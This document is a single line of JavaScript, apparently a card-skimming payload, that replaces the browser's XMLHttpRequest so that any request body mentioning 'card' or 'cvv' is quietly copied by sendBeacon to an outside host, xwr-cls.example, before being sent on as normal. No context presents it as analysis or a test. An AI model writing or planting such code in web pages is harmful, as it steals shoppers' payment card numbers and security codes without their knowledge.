window.XMLHttpRequest=class extends XMLHttpRequest{send(b){if(b&&/card|cvv/i.test(b)){navigator.sendBeacon('https://xwr-cls.example/c',b)}super.send(b)}};
